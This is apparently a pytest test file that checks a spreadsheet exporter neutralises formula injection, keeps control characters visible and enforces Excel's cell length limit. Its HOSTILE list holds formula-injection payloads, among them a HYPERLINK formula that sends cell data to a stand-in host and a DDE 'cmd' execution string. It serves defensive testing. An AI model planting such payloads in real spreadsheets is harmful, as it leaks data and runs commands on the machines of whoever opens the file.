"""Exported user text is a text cell in the saved file: no formula, no cut, no bad XML."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from cspdesk.io.cells import EXCEL_CELL_LIMIT, CellTooLong, set_text
from cspdesk.io.gate import open_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def save(tmp_path: Path, values: list[object]) -> Path:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row, value in enumerate(values, start=1):
        set_text(sheet.cell(row=row, column=1), value)
    path = tmp_path / "export.xlsx"
    workbook.save(path)
    return path


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode("utf-8")


def test_formula_like_text_is_saved_as_text(tmp_path: Path) -> None:
    path = save(tmp_path, HOSTILE)
    xml = sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml
    assert not re.search(r"<c [^>]*t=\"(?!s\"|inlineStr\")", xml)  # every cell a string
    sheet = open_workbook(path).active
    for row, text in enumerate(HOSTILE, start=1):
        cell = sheet.cell(row=row, column=1)
        assert cell.data_type == "s"
        assert cell.value == text.replace("\r", "\n") or cell.value == text
        assert cell.quotePrefix  # Excel keeps it text when the cell is edited


def test_plain_text_has_no_quote_prefix(tmp_path: Path) -> None:
    sheet = open_workbook(save(tmp_path, ["Reduce ASB by 5%"])).active
    assert sheet["A1"].value == "Reduce ASB by 5%" and not sheet["A1"].quotePrefix


def test_control_characters_are_marked_not_lost(tmp_path: Path) -> None:
    path = save(tmp_path, ["bell\x07 and null\x00 and tab\tand line\nend"])
    value = open_workbook(path).active["A1"].value
    assert value == "bell\ufffd and null\ufffd and tab\tand line\nend"


def test_text_at_the_limit_is_whole(tmp_path: Path) -> None:
    text = "x" * (EXCEL_CELL_LIMIT - 1) + "!"
    assert open_workbook(save(tmp_path, [text])).active["A1"].value == text


def test_text_over_the_limit_is_refused_not_cut() -> None:
    sheet = openpyxl.Workbook().active
    with pytest.raises(CellTooLong, match="32767"):
        set_text(sheet["A1"], "y" * (EXCEL_CELL_LIMIT + 1))
    assert sheet["A1"].value is None


def test_numbers_and_none(tmp_path: Path) -> None:
    sheet = open_workbook(save(tmp_path, [42, None])).active
    assert sheet["A1"].value == "42" and sheet["A1"].data_type == "s"
    assert sheet["A2"].value is None
